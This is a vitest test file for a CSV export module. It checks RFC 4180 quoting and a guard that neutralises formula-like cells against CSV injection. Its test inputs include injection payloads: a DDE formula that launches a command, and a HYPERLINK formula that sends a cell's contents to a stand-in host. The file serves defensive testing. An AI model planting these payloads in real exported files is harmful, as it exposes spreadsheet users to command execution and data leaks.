import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { csvHeader, csvRows, csvTable } from '../../src/report/csv.ts';

const columns = [
  { name: 'name', type: 'text' },
  { name: 'count', type: 'bigint' },
];

/** One cell of that type, as a reader of RFC 4180 finds it. */
function cellOf(type: string, value: unknown, raw = false): string {
  const text = csvRows(
    [
      { name: 'cell', type },
      { name: 'after', type: 'integer' },
    ],
    [{ cell: value, after: 1 }],
    raw,
  );
  const [record, ...more] = parse(text, { record_delimiter: '\r\n' }) as string[][];
  expect(more).toEqual([]);
  expect(record![1]).toBe('1');
  return record![0]!;
}

/** OWASP, "CSV Injection"; ASVS 5.0, 1.2.10; and what spreadsheets of many countries divide at semicolons. */
const formulas: readonly (readonly [string, string])[] = [
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['=HYPERLINK("http://x.example?"&A1,"y")', '\'=HYPERLINK("http://x.example?"&A1,"y")'],
  ['+1+1', "'+1+1"],
  ['-1+1', "'-1+1"],
  ['@SUM(1+1)', "'@SUM(1+1)"],
  ['\t=1', "'\t'=1"],
  ['\r=1', "'\r'=1"],
  ['\n=1', "'\n'=1"],
  ['\tx', "'\tx"],
  ['\0x', "'\0x"],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠x', "'＠x"],
  [' =1', "' =1"],
  ['x;=1+1', "x;'=1+1"],
  ['x; =1+1', "x;' =1+1"],
  ['x\t@y', "x\t'@y"],
  ['x\r\n=1', "x\r\n'=1"],
  ['","=1', '","=1'],
];

test.each(formulas)('a text is no formula (CSV injection): %j', (text, guarded) => {
  expect(cellOf('text', text)).toBe(guarded);
  expect(cellOf('text', text, true)).toBe(text);
});

test.each(['', 'mx.example', '2001:db8::1', "'", 'a=b', 'a-b@c', '250 ok; next', 'a, b', 'x\r\ny', '"'])(
  'a text that is none stays as it is: %j',
  (text) => expect(cellOf('text', text)).toBe(text),
);

test.each([
  ['text[]', ['=1', 'x;=1'], `["=1","x;'=1"]`],
  ['text[]', [], '[]'],
  ['jsonb', '{"a": ";=1"}', `{"a": ";'=1"}`],
  ['jsonb', '-1', "'-1"],
  ['inet', '=1', "'=1"],
  ['interval', '-P1D', "'-P1D"],
  ['bigint[]', '[-1]', '[-1]'],
])('arrays, JSON and types that nobody named are guarded too: %s %j', (type, value, cell) =>
  expect(cellOf(type, value)).toBe(cell),
);

test.each([
  ['bigint', -5, '-5'],
  ['bigint', -(2n ** 63n), '-9223372036854775808'],
  ['smallint', -5, '-5'],
  ['double precision', -1.5, '-1.5'],
  ['numeric', '-0.250000', '-0.250000'],
  ['boolean', false, 'false'],
  ['timestamp with time zone', new Date(0), '1970-01-01T00:00:00.000Z'],
  ['date', '2026-11-24', '2026-11-24'],
  ['smallint[]', [8, 13], '[8,13]'],
])('what cannot be a formula is left alone: %s %s', (type, value, cell) =>
  expect(cellOf(type, value)).toBe(cell),
);

test('RFC 4180 §2: header, CRLF, quotes', () => {
  expect(csvHeader(columns)).toBe('name,count\r\n');
  expect(csvRows(columns, [{ name: 'a "b", c\nd', count: 1 }], false)).toBe('"a ""b"", c\nd",1\r\n');
});

test('null is an empty cell, an empty text a quoted one', () => {
  expect(csvRows(columns, [{ name: null, count: null }], false)).toBe(',\r\n');
  expect(csvRows(columns, [{ name: '', count: 0 }], false)).toBe('"",0\r\n');
});

test('a table without rows is its header', () => {
  const table = csvTable(columns, false);
  const octets = [table.begin(), table.take([]), table.end()];
  expect(Buffer.concat(octets).toString()).toBe('name,count\r\n');
});
